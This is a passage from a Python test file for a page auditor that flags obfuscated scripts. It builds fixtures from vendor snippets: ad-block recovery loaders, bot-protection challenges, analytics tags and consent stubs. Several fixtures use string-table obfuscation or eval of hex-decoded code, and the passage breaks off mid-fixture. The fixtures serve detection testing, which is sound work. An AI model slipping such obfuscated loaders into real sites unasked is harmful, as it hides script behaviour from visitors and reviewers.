"""Vendor code publishers paste, inline, minified or encoded, against the same forms
injected. Each page is one we wrote after the vendor's published snippet or the form
sites serve (the IDs, keys and rotating hosts made up): the vendor's reads no
`obfuscated-script` finding, or a `medium` that says what to check; the injected twin
stays `high`. docs/ACCURACY.md ("Vendor code that hides things") lists what was tried.
"""

from __future__ import annotations

import base64
import json
import time
from string import ascii_letters

import pytest

from auditor.dom.deobfuscate import decode_script, is_data, table_acts
from auditor.dom.string_table import literal_reads, resolved
from auditor.model import PageReport, Severity
from tests.hostile.scaling import assert_linear

from .conftest import AuditHtml

H, M = Severity.HIGH, Severity.MEDIUM
URL = "https://news.example/2024/story"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def page(head: str = "", body: str = "", foot: str = "") -> str:
    """A news article with code in its head, its article and after it; `foot` sits 40
    lines below the head, as a footer's code does on a real page."""
    return (f"<!DOCTYPE html>\n<html lang='en'><head><meta charset='utf-8'><title>Ferry vote"
            f"</title>\n<link rel='canonical' href='{URL}'>{head}</head>\n<body><main><article>"
            "<h1>Ferry</h1>\n<p>The harbour council voted on the winter timetable on Tuesday."
            f"</p>{body}</article></main>" + "\n" * 40 + f"{foot}</body></html>")


def obfuscated(words: list[str], body: str) -> str:
    """javascript-obfuscator's older shape: an escaped string table, written rotated back
    by as many places as the IIFE after it turns it (0x1b7), read through an accessor
    (`_0x4f5a('0x3')` is `words[3]` once turned)."""
    back = 0x1b7 % len(words)
    written = words[len(words) - back:] + words[: len(words) - back]
    table = ",".join("'" + "".join(f"\\x{ord(c):02x}" for c in w) + "'" for w in written)
    return (f"var _0x3e4f=[{table}];(function(_0x1f2a3b,_0x4c5d6e){{var _0x2a3b4c=function("
            "_0x5d6e7f){while(--_0x5d6e7f){_0x1f2a3b['push'](_0x1f2a3b['shift']());}};_0x2a3b4c("
            "++_0x4c5d6e);}(_0x3e4f,0x1b7));var _0x4f5a=function(_0x6e7f80,_0x7f8091){_0x6e7f80="
            "_0x6e7f80-0x0;var _0x809102=_0x3e4f[_0x6e7f80];return _0x809102;};" + body)


# Funding Choices' error protection code: Closure-compiled, its config (the publisher, the
# messages it fetches, Google's static host) base64 JSON handed to `window.atob`
def fc_config(static: str = "https://www.gstatic.com") -> str:
    token = "https://fundingchoicesmessages.google.com/el/AGSKWxQfake{}\\u003d\\u003d"
    return json.dumps([
        "pub-1111222233334444",
        [None, None, None, "https://fundingchoicesmessages.google.com/b/pub-1111222233334444"],
        None, None, token.format("A") + "?te\\u003dTOKEN_EXPOSED",
        token.format("B") + "?ab\\u003d1\\u0026sbf\\u003d1", token.format("C") + "?sbf\\u003d2",
        "div-gpt-ad", 20, 100, b64("pub-1111222233334444"),
        [None, None, None, f"{static}/0emn/f/p/pub-1111222233334444.js?usqp\\u003dCBI"],
        token.format("D")]).replace("\\\\u", "\\u")


def fc_error_protection(config: str) -> str:
    return (
        "<script>(function(){/*\n\n Copyright The Closure Library Authors.\n SPDX-License-"
        "Identifier: Apache-2.0\n*/\n'use strict';var r=this||self;var ra=function(a,b){this.l=a;"
        "this.g=b;this.i=K(this.g,1);this.h=!1};ra.prototype.start=function(){sa(this)};var sa="
        "function(a){ta(a);S(a.m,a.o,3,!1,function(){a:{var b=a.i;var c=r.btoa(b);if(c=r[c]){try{"
        "var d=O(P,r.atob(c))}catch(e){b=!1;break a}b=b===K(d,1)}else b=!1}b?Z(a,K(a.g,14)):(Z(a,"
        "K(a.g,8)),V(a.j))},function(){pa(function(){Z(a,K(a.g,7));V(a.j)},function(){return Z(a,"
        "K(a.g,6))},K(a.g,9),K(a.g,10),K(a.g,11))})},Z=function(a,b){a.h||(a.h=!0,a=new a.l."
        "XMLHttpRequest,a.open('GET',b,!0),a.send())},ta=function(a){var b=r.btoa(a.i);a.l[b]&&"
        "Z(a,K(a.g,5))};(function(a,b){r[a]=function(c){for(var d=[],e=0;e<arguments.length;++e)"
        "d[e-0]=arguments[e];r[a]=function(){};b.apply(null,d)}})(\"__h82AlnkH6D91__\",function(a)"
        "{\"function\"===typeof window.atob&&(new ra(window,O(qa,window.atob(a)))).start()});})"
        f".call(this);\nwindow.__h82AlnkH6D91__(\"{b64(config)}\");</script>")


# Ad-Shield's fallback: tries its loader's mirrors, then sends a visitor whose blocker
# stopped them all to its error page
ADSHIELD_WORDS = [
    "html-load.com", "content-loader.com", "fb.html-load.com", "/loader.min.js",
    "createElement", "script", "src", "https://", "head", "appendChild", "onerror",
    "https://report.error-report.com/modal?eventId=&error=Vml0YWwgQVBJIGJsb2NrZWQ%3D&domain=",
    "location", "href", "hostname"]
ADSHIELD_BODY = (
    "(function(){var _0x1=[_0x4f5a('0x0'),_0x4f5a('0x1'),_0x4f5a('0x2')],_0x2=0x0;function "
    "_0x3(){if(_0x2>=_0x1['length']){window[_0x4f5a('0xc')][_0x4f5a('0xd')]=_0x4f5a('0xb')+"
    "window[_0x4f5a('0xc')][_0x4f5a('0xe')];return;}var _0x4=document[_0x4f5a('0x4')]("
    "_0x4f5a('0x5'));_0x4[_0x4f5a('0x6')]=_0x4f5a('0x7')+_0x1[_0x2++]+_0x4f5a('0x3');_0x4["
    "_0x4f5a('0xa')]=_0x3;document[_0x4f5a('0x8')][_0x4f5a('0x9')](_0x4);}window["
    "'__adshield_fb']=_0x3;}());")
# Admiral: its tag defines the `admiral` queue and loads one rotating host; the
# obfuscated part tries the others
ADMIRAL_HOSTS = ["https://quietlanternfield.com/assets/js/a8b2c1d0e9f8.min.js",
                 "https://marblecoastgrove.com/v2/f7e6d5c4.js",
                 "https://hollowpinecrest.com/public/js/b1a2c3.js"]
ADMIRAL_BODY = (
    "!(function(){var _0xa=[_0x4f5a('0x0'),_0x4f5a('0x1'),_0x4f5a('0x2')],_0xb=0x0;function "
    "_0xc(){if(_0xb>=_0xa['length'])return;var _0xd=document[_0x4f5a('0x3')](_0x4f5a('0x4'));"
    "_0xd[_0x4f5a('0x5')]=_0xa[_0xb++];_0xd[_0x4f5a('0x8')]=_0xc;document[_0x4f5a('0x6')]["
    "_0x4f5a('0x7')](_0xd);}window[_0x4f5a('0x9')]('after','measure.detected',function(){});"
    "_0xc();}());")


def admiral(hosts: list[str]) -> str:
    words = [*hosts, "createElement", "script", "src", "head", "appendChild", "onerror",
             "admiral"]
    return "<script>" + obfuscated(words, ADMIRAL_BODY) + "</script>"



FC_TAG = (
    "<script async src=\"https://fundingchoicesmessages.google.com/i/pub-1111222233334444?ers"
    "=1\"></script><script>(function() {function signalGooglefcPresent() {if (!window.frames["
    "'googlefcPresent']) {if (document.body) {const iframe = document.createElement('iframe')"
    "; iframe.style = 'width: 0; height: 0; border: none; z-index: -1000; left: -1000px; top:"
    " -1000px;'; iframe.style.display = 'none'; iframe.name = 'googlefcPresent'; document.bod"
    "y.appendChild(iframe);} else {setTimeout(signalGooglefcPresent, 0);}}}signalGooglefcPres"
    "ent();})();</script>"
)

ADMIRAL_TAG = (
    "<script type=\"text/javascript\">!(function(M,_name){M[_name]=M[_name]||function h(){(h."
    "q=h.q||[]).push(arguments)},M[_name].v=M[_name].v||2,M[_name].s=\"3\";})(window,decodeUR"
    "I(decodeURI('%61%25%36%34%6d%69%25%37%32%61%6c')));!(function(M,h,Z,R){Z=M.createElement"
    "(h),M=M.getElementsByTagName(h)[0],Z.async=1,Z.src=\"https://quietlanternfield.com/asset"
    "s/js/a8b2c1d0e9f8.min.js\",(R=0)&&R(Z),M.parentNode.insertBefore(Z,M)})(document,\"scrip"
    "t\");</script>"
)

ADSHIELD_TAG = (
    "<script src=\"https://html-load.com/loader.min.js\" data-sdk=\"l/1.1.18\" data-cfasync="
    "\"false\" charset=\"UTF-8\"></script>"
)

BLOCKTHROUGH = (
    "<script async src=\"https://btloader.com/tag?o=5184339635601408&upapi=true\" type=\"text"
    "/javascript\"></script><script>!function(){\"use strict\";var e;e=document,function(){va"
    "r t,n;function r(){var t=e.createElement(\"script\");t.src=\"https://cafemedia-com.video"
    "playerhub.com/galleryplayer.js\",e.head.appendChild(t)}function a(){var t=e.cookie.match"
    "(\"(^|[^;]+)\\\\s*__adblocker\\\\s*=\\\\s*([^;]+)\");return t&&t.pop()}function c(){clea"
    "rInterval(n)}return{init:function(){var e;\"true\"===(t=a())?r():(e=0,n=setInterval((fun"
    "ction(){100!==e&&\"false\"!==t||c(),\"true\"===t&&(r(),c()),t=a(),e++}),50))}}}().init()"
    "}();</script>"
)

BAIT = (
    "<script src=\"/js/ads-prebid.js\"></script><div id=\"adblock-notice\" style=\"display:no"
    "ne\">Please whitelist us</div><script>if(!document.getElementById('XyZbAitEl')){document"
    ".getElementById('adblock-notice').style.display='block';}</script>"
)

CF_CHALLENGE = (
    "<script>(function(){function c(){var b=a.contentDocument||a.contentWindow.document;if(b)"
    "{var d=b.createElement('script');d.innerHTML=\"window.__CF$cv$params={r:'8f1e2d3c4b5a697"
    "8',t:'MTczMzQwMDAwMC4wMDAwMDA='};var a=document.createElement('script');a.nonce='';a.src"
    "='/cdn-cgi/challenge-platform/scripts/jsd/main.js';document.getElementsByTagName('head')"
    "[0].appendChild(a);\";b.getElementsByTagName('head')[0].appendChild(d)}}if(document.body"
    "){var a=document.createElement('iframe');a.height=1;a.width=1;a.style.position='absolute"
    "';a.style.top=0;a.style.left=0;a.style.border='none';a.style.visibility='hidden';documen"
    "t.body.appendChild(a);if('loading'!==document.readyState)c();else if(window.addEventList"
    "ener)document.addEventListener('DOMContentLoaded',c);else{var e=document.onreadystatecha"
    "nge||function(){};document.onreadystatechange=function(b){e(b);'loading'!==document.read"
    "yState&&(document.onreadystatechange=e,c())}}}})();</script>"
)

ROCKET_LOADER = (
    "<script type=\"9a0f1d2c3b4e5f6a7b8c9d0e-text/javascript\">var x = 1;</script><script src"
    "=\"/cdn-cgi/scripts/7d0fa10a/cloudflare-static/rocket-loader.min.js\" data-cf-settings="
    "\"9a0f1d2c3b4e5f6a7b8c9d0e-|49\" defer></script>"
)

CF_EMAIL = (
    "<p>Write to <a href=\"/cdn-cgi/l/email-protection#b2d7d6dbc6ddc0f2dcd7c5c19cd7cad3dfc2de"
    "d7\"><span class=\"__cf_email__\" data-cfemail=\"b2d7d6dbc6ddc0f2dcd7c5c19cd7cad3dfc2ded"
    "7\">[email&#160;protected]</span></a></p><script data-cfasync=\"false\" src=\"/cdn-cgi/s"
    "cripts/5c5dd728/cloudflare-static/email-decode.min.js\"></script>"
)

AKAMAI = (
    "<script type=\"text/javascript\">var _cf = _cf || []; _cf.push(['_setFsp', true]); _cf.p"
    "ush(['_setBm', true]); _cf.push(['_setAu', '/assets/4f3e2d1c0b9a']);</script><script typ"
    "e=\"text/javascript\" src=\"/assets/4f3e2d1c0b9a\"></script><script type=\"text/javascri"
    "pt\" src=\"/Qw3rTy/uIoP/aSdF/gHjK/lZxC/VbNm1234\"></script><noscript><img src=\"https://"
    "news.example/akam/13/pixel_1a2b3c4d?a=dD0xYTJiM2M0ZDVlNmY3ODkwJmpzPW9mZg==\" style=\"vis"
    "ibility: hidden; position: absolute; left: -999px; top: -999px;\" /></noscript>"
)

PERIMETERX_BLOCK = (
    "<script>window._pxAppId = 'PXq1w2e3r4';window._pxJsClientSrc = '/q1w2e3r4/init.js';windo"
    "w._pxFirstPartyEnabled = true;window._pxVid = '';window._pxUuid = '5f4e3d2c-1b0a-4988-87"
    "76-655443322110';window._pxHostUrl = '/q1w2e3r4/xhr';</script><script>var s = document.c"
    "reateElement('script');s.src = '/q1w2e3r4/captcha/captcha.js?a=c&u=5f4e3d2c-1b0a-4988-87"
    "76-655443322110&v=&m=0';var p = document.getElementsByTagName('head')[0];p.insertBefore("
    "s, null);if (true ){s.onerror = function () {s = document.createElement('script');var su"
    "ffixIndex = '/q1w2e3r4/captcha/captcha.js?a=c&u=5f4e3d2c-1b0a-4988-8776-655443322110&v=&"
    "m=0'.indexOf('captcha.js');var temperedBlockScript = '/q1w2e3r4/captcha/captcha.js?a=c&u"
    "=5f4e3d2c-1b0a-4988-8776-655443322110&v=&m=0'.substring(suffixIndex);s.src = '//captcha."
    "px-cdn.net/PXq1w2e3r4/' + temperedBlockScript;p.parentNode.insertBefore(s, p);};}</scrip"
    "t>"
)

DATADOME_BLOCK = (
    "<script data-cfasync=\"false\">var dd={'rt':'c','cid':'AHrlqAAAAAMAq1w2e3r4t5y6AAAAAA=='"
    ",'hsh':'0A1B2C3D4E5F60718293A4B5C6D7E8','t':'fe','s':41234,'e':'a1b2c3d4a1b2c3d4a1b2c3d4"
    "a1b2c3d4a1b2c3d4a1b2c3d4a1b2c3d4a1b2c3d4','host':'geo.captcha-delivery.com','cookie':'Zx"
    "9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9'}</script><script data-cfasyn"
    "c=\"false\" src=\"https://ct.captcha-delivery.com/c.js\"></script>"
)

INCAPSULA = (
    "<script type=\"text/javascript\" src=\"/_Incapsula_Resource?SWJIYLWA=719d34d31c8e3a6e6ff"
    "fd425f7e032f3&ns=2&cb=1234567\" async></script><script type=\"text/javascript\">(functio"
    "n() { var z=\"\";var b=\"7472797b766172207868723b76617220743d6e6577204461746528292e67657"
    "454696d6528293b766172207374617475733d227374617274223b7661722074696d696e673d6e65772041727"
    "261792833293b77696e646f772e6f6e756e6c6f61643d66756e6374696f6e28297b74696d696e675b325d3d2"
    "2723a222b286e6577204461746528292e67657454696d6528292d74293b646f63756d656e742e63726561746"
    "5456c656d656e742822696d6722292e7372633d222f5f496e63617073756c615f5265736f757263653f45533"
    "24c555243543d363726743d373826643d222b656e636f6465555249436f6d706f6e656e74287374617475732"
    "b222028222b74696d696e672e6a6f696e28292b222922297d3b69662877696e646f772e584d4c48747470526"
    "57175657374297b7868723d6e657720584d4c48747470526571756573747d656c73657b7868723d6e6577204"
    "16374697665584f626a65637428224d6963726f736f66742e584d4c4854545022297d7868722e6f6e7265616"
    "47973746174656368616e67653d66756e6374696f6e28297b737769746368287868722e72656164795374617"
    "465297b6361736520303a7374617475733d6e6577204461746528292e67657454696d6528292d742b223a207"
    "2657175657374206e6f7420696e697469616c697a656420223b627265616b3b6361736520343a73746174757"
    "33d22636f6d706c657465223b74696d696e675b315d3d22633a222b286e6577204461746528292e676574546"
    "96d6528292d74293b6966287868722e7374617475733d3d323030297b706172656e742e6c6f636174696f6e2"
    "e72656c6f616428297d627265616b7d7d3b74696d696e675b305d3d22733a222b286e6577204461746528292"
    "e67657454696d6528292d74293b7868722e6f70656e2822474554222c222f5f496e63617073756c615f52657"
    "36f757263653f535748414e45444c3d313233343536373839303132333435363738392c31323334353637383"
    "930313233343536373839302c313233343536373839303132333435363738392c313233343536222c66616c7"
    "365293b7868722e73656e64286e756c6c297d63617463682863297b7374617475732b3d6e657720446174652"
    "8292e67657454696d6528292d742b2220696e6361705f6578633a20222b633b646f63756d656e742e6372656"
    "17465456c656d656e742822696d6722292e7372633d222f5f496e63617073756c615f5265736f757263653f4"
    "553324c555243543d363726743d373826643d222b656e636f6465555249436f6d706f6e656e7428737461747"
    "5732b222028222b74696d696e672e6a6f696e28292b222922297d3b\";for (var i=0;i<b.length;i+=2){"
    "z=z+parseInt(b.substring(i, i+2), 16)+\",\";}z = z.substring(0,z.length-1); eval(eval('S"
    "tring.fromCharCode('+z+')'));})();</script>"
)

KASADA = (
    "<script>window.KPSDK={};KPSDK.now=typeof performance!=='undefined'&&performance.now?perf"
    "ormance.now.bind(performance):Date.now.bind(Date);KPSDK.start=KPSDK.now();</script><scri"
    "pt src=\"/149e9513-01fa-4fb0-aad4-566afd725d1b/2d206a39-8ed7-437e-a3be-862e0f06eea3/p.js"
    "\"></script>"
)

VWO = (
    "<script type='text/javascript' id='vwoCode'>window._vwo_code || (function() {var account"
    "_id=712345,version=2.1,settings_tolerance=2000,hide_element='body',hide_element_style='o"
    "pacity:0 !important;filter:alpha(opacity=0) !important;background:none !important;transi"
    "tion:none !important;',/* DO NOT EDIT BELOW THIS LINE */\nf=false,w=window,d=document,v="
    "d.querySelector('#vwoCode'),cK='_vwo_'+account_id+'_settings',cc={};try{var c=JSON.parse"
    "(localStorage.getItem('_vwo_'+account_id+'_config'));cc=c&&typeof c==='object'?c:{}}catc"
    "h(e){}var stT=cc.stT==='session'?w.sessionStorage:w.localStorage;code={nonce:v&&v.nonce,"
    "use_existing_jquery:function(){return typeof use_existing_jquery!=='undefined'?use_exist"
    "ing_jquery:undefined},library_tolerance:function(){return typeof library_tolerance!=='un"
    "defined'?library_tolerance:undefined},settings_tolerance:function(){return cc.sT||settin"
    "gs_tolerance},hide_element_style:function(){return'{'+(cc.hES||hide_element_style)+'}'},"
    "hide_element:function(){if(performance.getEntriesByName('first-contentful-paint')[0]){re"
    "turn''}return typeof cc.hE==='string'?cc.hE:hide_element},getVersion:function(){return v"
    "ersion},finish:function(e){if(!f){f=true;var t=d.getElementById('_vis_opt_path_hides');i"
    "f(t)t.parentNode.removeChild(t);if(e)(new Image).src='https://dev.visualwebsiteoptimizer"
    ".com/ee.gif?a='+account_id+e}},finished:function(){return f},addScript:function(e){var t"
    "=d.createElement('script');t.type='text/javascript';if(e.src){t.src=e.src}else{t.text=e."
    "text}v&&t.setAttribute('nonce',v.nonce);d.getElementsByTagName('head')[0].appendChild(t)"
    "},load:function(e,t){var n=this.getSettings(),i=d.createElement('script'),r=this;t=t||{}"
    ";if(n){i.textContent=n;d.getElementsByTagName('head')[0].appendChild(i);if(!w.VWO||VWO.c"
    "aE){stT.removeItem(cK);r.load(e)}}else{var o=new XMLHttpRequest;o.open('GET',e,true);o.w"
    "ithCredentials=!t.dSC;o.responseType=t.responseType||'text';o.onload=function(){if(t.onl"
    "oadCb){return t.onloadCb(o,e)}if(o.status===200||o.status===304){_vwo_code.addScript({te"
    "xt:o.responseText})}else{_vwo_code.finish('&e=loading_failure:'+e)}};o.onerror=function("
    "){if(t.onerrorCb){return t.onerrorCb(e)}_vwo_code.finish('&e=loading_failure:'+e)};o.sen"
    "d()}},getSettings:function(){try{var e=stT.getItem(cK);if(!e){return}e=JSON.parse(e);if("
    "Date.now()>e.e){stT.removeItem(cK);return}return e.s}catch(e){return}},init:function(){i"
    "f(d.URL.indexOf('__vwo_disable__')>-1)return;var e=this.settings_tolerance();w._vwo_sett"
    "ings_timer=setTimeout(function(){_vwo_code.finish();stT.removeItem(cK)},e);var t;if(this"
    ".hide_element()!=='body'){t=d.createElement('style');var n=this.hide_element(),i=n?n+thi"
    "s.hide_element_style():'',r=d.getElementsByTagName('head')[0];t.setAttribute('id','_vis_"
    "opt_path_hides');v&&t.setAttribute('nonce',v.nonce);t.setAttribute('type','text/css');if"
    "(t.styleSheet)t.styleSheet.cssText=i;else t.appendChild(d.createTextNode(i));r.appendChi"
    "ld(t)}else{t=d.getElementsByTagName('head')[0];var i=d.createElement('div');i.style.cssT"
    "ext='z-index: 2147483647 !important;position: fixed !important;left: 0 !important;top: 0"
    " !important;width: 100% !important;height: 100% !important;background: white !important;"
    "';i.setAttribute('id','_vis_opt_path_hides');i.classList.add('_vis_hide_layer');t.parent"
    "Node.insertBefore(i,t.nextSibling)}var o=window._vis_opt_url||d.URL,s='https://dev.visua"
    "lwebsiteoptimizer.com/j.php?a='+account_id+'&u='+encodeURIComponent(o)+'&vn='+version;if"
    "(w.location.search.indexOf('_vwo_xhr')!==-1){this.addScript({src:s})}else{this.load(s+'&"
    "x=true')}}};w._vwo_code=code;code.init();})();</script>"
)

ANTI_FLICKER = (
    "<style>.async-hide { opacity: 0 !important} </style><script>(function(a,s,y,n,c,h,i,d,e)"
    "{s.className+=' '+y;h.start=1*new Date;h.end=i=function(){s.className=s.className.replac"
    "e(RegExp(' ?'+y),'')};(a[n]=a[n]||[]).hide=h;setTimeout(function(){i();h.end=null},c);h."
    "timeout=c;})(window,document.documentElement,'async-hide','dataLayer',4000,{'GTM-K7Q2ZP3"
    "':true});</script>"
)

YANDEX = (
    "<script type=\"text/javascript\">(function(m,e,t,r,i,k,a){m[i]=m[i]||function(){(m[i].a="
    "m[i].a||[]).push(arguments)};m[i].l=1*new Date();for (var j = 0; j < document.scripts.le"
    "ngth; j++) {if (document.scripts[j].src === r) { return; }}k=e.createElement(t),a=e.getE"
    "lementsByTagName(t)[0],k.async=1,k.src=r,a.parentNode.insertBefore(k,a)})(window, docume"
    "nt, \"script\", \"https://mc.yandex.ru/metrika/tag.js\", \"ym\");ym(98765432, \"init\", "
    "{clickmap:true,trackLinks:true,accurateTrackBounce:true,webvisor:true});</script><noscri"
    "pt><div><img src=\"https://mc.yandex.ru/watch/98765432\" style=\"position:absolute; left"
    ":-9999px;\" alt=\"\" /></div></noscript>"
)

PIWIK_PRO = (
    "<script type=\"text/javascript\">(function(window, document, dataLayerName, id) {window["
    "dataLayerName]=window[dataLayerName]||[],window[dataLayerName].push({start:(new Date).ge"
    "tTime(),event:\"stg.start\"});var scripts=document.getElementsByTagName('script')[0],tag"
    "s=document.createElement('script');function stgCreateCookie(a,b,c){var d=\"\";if(c){var "
    "e=new Date;e.setTime(e.getTime()+24*c*60*60*1e3),d=\"; expires=\"+e.toUTCString()}docume"
    "nt.cookie=a+\"=\"+b+d+\"; path=/\"}var isStgDebug=(window.location.href.match(\"stg_debu"
    "g\")||document.cookie.match(\"stg_debug\"))&&!window.location.href.match(\"stg_disable_d"
    "ebug\");stgCreateCookie(\"stg_debug\",isStgDebug?1:\"\",isStgDebug?14:-1);var qP=[];data"
    "LayerName!==\"dataLayer\"&&qP.push(\"data_layer_name=\"+dataLayerName),isStgDebug&&qP.pu"
    "sh(\"stg_debug\");var qPString=qP.length>0?(\"?\"+qP.join(\"&\")):\"\";tags.async=!0,tag"
    "s.src=\"https://harbour.containers.piwik.pro/\"+id+\".js\"+qPString,scripts.parentNode.i"
    "nsertBefore(tags,scripts);!function(a,n,i){a[n]=a[n]||{};for(var c=0;c<i.length;c++)!fun"
    "ction(i){a[n][i]=a[n][i]||{},a[n][i].api=a[n][i].api||function(){var a=[].slice.call(arg"
    "uments,0);\"string\"==typeof a[0]&&window[dataLayerName].push({event:n+\".\"+i+\":\"+a[0"
    "],parameters:[].slice.call(arguments,1)})}}(i[c])}(window,\"ppms\",[\"tm\",\"cm\"]);})(w"
    "indow, document, 'dataLayer', '4a3b2c1d-0e9f-4a8b-9c7d-6e5f4a3b2c1d');</script>"
)

TIKTOK = (
    "<script>!function (w, d, t) {w.TiktokAnalyticsObject=t;var ttq=w[t]=w[t]||[];ttq.methods"
    "=[\"page\",\"track\",\"identify\",\"instances\",\"debug\",\"on\",\"off\",\"once\",\"read"
    "y\",\"alias\",\"group\",\"enableCookie\",\"disableCookie\",\"holdConsent\",\"revokeConse"
    "nt\",\"grantConsent\"],ttq.setAndDefer=function(t,e){t[e]=function(){t.push([e].concat(A"
    "rray.prototype.slice.call(arguments,0)))}};for(var i=0;i<ttq.methods.length;i++)ttq.setA"
    "ndDefer(ttq,ttq.methods[i]);ttq.instance=function(t){for(var e=ttq._i[t]||[],n=0;n<ttq.m"
    "ethods.length;n++)ttq.setAndDefer(e,ttq.methods[n]);return e},ttq.load=function(e,n){var"
    " r=\"https://analytics.tiktok.com/i18n/pixel/events.js\",o=n&&n.partner;ttq._i=ttq._i||{"
    "},ttq._i[e]=[],ttq._i[e]._u=r,ttq._t=ttq._t||{},ttq._t[e]=+new Date,ttq._o=ttq._o||{},tt"
    "q._o[e]=n||{};n=document.createElement(\"script\");n.type=\"text/javascript\",n.async=!0"
    ",n.src=r+\"?sdkid=\"+e+\"&lib=\"+t;e=document.getElementsByTagName(\"script\")[0];e.pare"
    "ntNode.insertBefore(n,e)};ttq.load('C9A1B2C3D4E5F6G7H8I9');ttq.page();}(window, document"
    ", 'ttq');</script>"
)

SOURCEPOINT = (
    "<script>\"use strict\";function _typeof(t){return(_typeof=\"function\"==typeof Symbol&&"
    "\"symbol\"==typeof Symbol.iterator?function(t){return typeof t}:function(t){return t&&\""
    "function\"==typeof Symbol&&t.constructor===Symbol&&t!==Symbol.prototype?\"symbol\":typeo"
    "f t})(t)}!function(){var t=function(){var t,e,o=[],n=window,r=n;for(;r;){try{if(r.frames"
    ".__tcfapiLocator){t=r;break}}catch(t){}if(r===n.top)break;r=r.parent}t||(!function t(){v"
    "ar e=n.document,o=!!n.frames.__tcfapiLocator;if(!o)if(e.body){var r=e.createElement(\"if"
    "rame\");r.style.cssText=\"display:none\",r.name=\"__tcfapiLocator\",e.body.appendChild(r"
    ")}else setTimeout(t,5);return!o}(),n.__tcfapi=function(){for(var t=arguments.length,n=ne"
    "w Array(t),r=0;r<t;r++)n[r]=arguments[r];if(!n.length)return o;\"setGdprApplies\"===n[0]"
    "?n.length>3&&2===parseInt(n[1],10)&&\"boolean\"==typeof n[3]&&(e=n[3],\"function\"==type"
    "of n[2]&&n[2](\"set\",!0)):\"ping\"===n[0]?\"function\"==typeof n[2]&&n[2]({gdprApplies:"
    "e,cmpLoaded:!1,cmpStatus:\"stub\"}):o.push(n)},n.addEventListener(\"message\",function(t"
    "){var e=\"string\"==typeof t.data,o={};if(e)try{o=JSON.parse(t.data)}catch(t){}else o=t."
    "data;var n=\"object\"===_typeof(o)&&null!==o?o.__tcfapiCall:null;n&&window.__tcfapi(n.co"
    "mmand,n.version,function(o,r){var a={__tcfapiReturn:{returnValue:o,success:r,callId:n.ca"
    "llId}};t&&t.source&&t.source.postMessage&&t.source.postMessage(e?JSON.stringify(a):a,\"*"
    "\")},n.parameter)},!1))};\"undefined\"!=typeof module?module.exports=t:t()}();</script><"
    "script>window._sp_queue = [];window._sp_ = {config: {accountId: 1873, baseEndpoint: 'htt"
    "ps://cdn.privacy-mgmt.com', gdpr: { }, events: {onMessageReady: function() {console.log("
    "'[event] onMessageReady', arguments);}}}}</script><script src='https://cdn.privacy-mgmt."
    "com/unified/wrapperMessagingWithoutDetection.js' async></script>"
)

QUANTCAST = (
    "<script type=\"text/javascript\" async=true>(function() {var host = window.location.host"
    "name;var element = document.createElement('script');var firstScript = document.getElemen"
    "tsByTagName('script')[0];var url = 'https://cmp.inmobi.com'.concat('/choice/', 'a1B2c3D4"
    "e5F6g', '/', host, '/choice.js?tag_version=V3');var uspTries = 0;var uspTriesLimit = 3;e"
    "lement.async = true;element.type = 'text/javascript';element.src = url;firstScript.paren"
    "tNode.insertBefore(element, firstScript);function makeStub() {var TCF_LOCATOR_NAME = '__"
    "tcfapiLocator';var queue = [];var win = window;var cmpFrame;function addFrame() {var doc"
    " = win.document;var otherCMP = !!(win.frames[TCF_LOCATOR_NAME]);if (!otherCMP) {if (doc."
    "body) {var iframe = doc.createElement('iframe');iframe.style.cssText = 'display:none';if"
    "rame.name = TCF_LOCATOR_NAME;doc.body.appendChild(iframe);} else {setTimeout(addFrame, 5"
    ");}}return !otherCMP;}function tcfAPIHandler() {var gdprApplies;var args = arguments;if "
    "(!args.length) {return queue;} else if (args[0] === 'setGdprApplies') {if (args.length >"
    " 3 && args[2] === 2 && typeof args[3] === 'boolean') {gdprApplies = args[3];if (typeof a"
    "rgs[2] === 'function') {args[2]('set', true);}}} else if (args[0] === 'ping') {var retr "
    "= {gdprApplies: gdprApplies,cmpLoaded: false,cmpStatus: 'stub'};if (typeof args[2] === '"
    "function') {args[2](retr);}} else {if(args[0] === 'init' && typeof args[3] === 'object')"
    " {args[3] = Object.assign(args[3], { tag_version: 'V3' });}queue.push(args);}}function p"
    "ostMessageEventHandler(event) {var msgIsString = typeof event.data === 'string';var json"
    " = {};try {if (msgIsString) {json = JSON.parse(event.data);} else {json = event.data;}} "
    "catch (ignore) {}var payload = json.__tcfapiCall;if (payload) {window.__tcfapi(payload.c"
    "ommand,payload.version,function(retValue, success) {var returnMsg = {__tcfapiReturn: {re"
    "turnValue: retValue,success: success,callId: payload.callId}};if (msgIsString) {returnMs"
    "g = JSON.stringify(returnMsg);}if (event && event.source && event.source.postMessage) {e"
    "vent.source.postMessage(returnMsg, '*');}},payload.parameter);}}while (win) {try {if (wi"
    "n.frames[TCF_LOCATOR_NAME]) {cmpFrame = win;break;}} catch (ignore) {}if (win === window"
    ".top) {break;}win = win.parent;}if (!cmpFrame) {addFrame();win.__tcfapi = tcfAPIHandler;"
    "win.addEventListener('message', postMessageEventHandler, false);}};makeStub();})();</scr"
    "ipt>"
)

DIDOMI = (
    "<script type=\"text/javascript\">window.gdprAppliesGlobally=true;(function(){function n("
    "e){if(!window.frames[e]){if(document.body&&document.body.firstChild){var t=document.body"
    ";var r=document.createElement(\"iframe\");r.style.display=\"none\";r.name=e;r.title=e;t."
    "insertBefore(r,t.firstChild)}else{setTimeout(function(){n(e)},5)}}}function e(r,a,o,c,s)"
    "{function e(e,t,r,n){if(typeof r!==\"function\"){return}if(!window[a]){window[a]=[]}var "
    "i=false;if(s){i=s(e,n,r)}if(!i){window[a].push({command:e,version:t,callback:r,parameter"
    ":n})}}e.stub=true;e.stubVersion=2;function t(n){if(!window[r]||window[r].stub!==true){re"
    "turn}if(!n.data){return}var i=typeof n.data===\"string\";var e;try{e=i?JSON.parse(n.data"
    "):n.data}catch(t){return}if(e[o]){var a=e[o];window[r](a.command,a.version,function(e,t)"
    "{var r={};r[c]={returnValue:e,success:t,callId:a.callId};if(n.source){n.source.postMessa"
    "ge(i?JSON.stringify(r):r,\"*\")}},a.parameter)}}if(typeof window[r]!==\"function\"){wind"
    "ow[r]=e;if(window.addEventListener){window.addEventListener(\"message\",t,false)}else{wi"
    "ndow.attachEvent(\"onmessage\",t)}}}e(\"__tcfapi\",\"__tcfapiBuffer\",\"__tcfapiCall\","
    "\"__tcfapiReturn\");n(\"__tcfapiLocator\");(function(e,t){var r=document.createElement("
